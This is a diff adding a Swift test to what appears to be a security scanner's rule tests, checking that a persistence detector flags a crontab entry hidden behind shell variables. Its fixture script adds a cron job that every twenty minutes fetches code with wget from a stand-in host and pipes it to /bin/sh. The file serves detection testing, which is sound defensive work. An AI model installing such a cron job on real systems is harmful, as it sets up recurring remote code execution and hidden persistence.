@@ -111,6 +111,22 @@ struct RuleBehaviourTests {
     #expect(reminder.allSatisfy { $0.chain == nil })
   }
 
+  @Test("A crontab line persisted through a variable is judged by the variable's value")
+  func crontabThroughVariable() throws {
+    let script = """
+      fetch="wget -qO-"; host="policy.example.net"
+      job="*/20 * * * * /bin/sh -c \\"\\$($fetch https://$host/p)\\" >/dev/null 2>&1"
+      rot="0 * * * * logrotate -s $HOME/state $HOME/app.conf"
+      ( crontab -l 2>/dev/null; echo "$rot"; echo "$job" ) | crontab -
+
+      """
+    let found = try findings("persistence-mechanism", Example(script, language: .shell))
+    #expect(found.contains { $0.line == 4 && $0.chain == .persistence && $0.severity == .high })
+    let benign = try findings(
+      "persistence-mechanism", Example(script.replacingOccurrences(of: "; echo \"$job\"", with: ""), language: .shell))
+    #expect(benign.contains { $0.line == 4 && $0.chain == nil && $0.severity == .medium })
+  }
+
   @Test("A load-time directive is reported in load-time context")
   func loadTime() throws {
     let found = try findings(
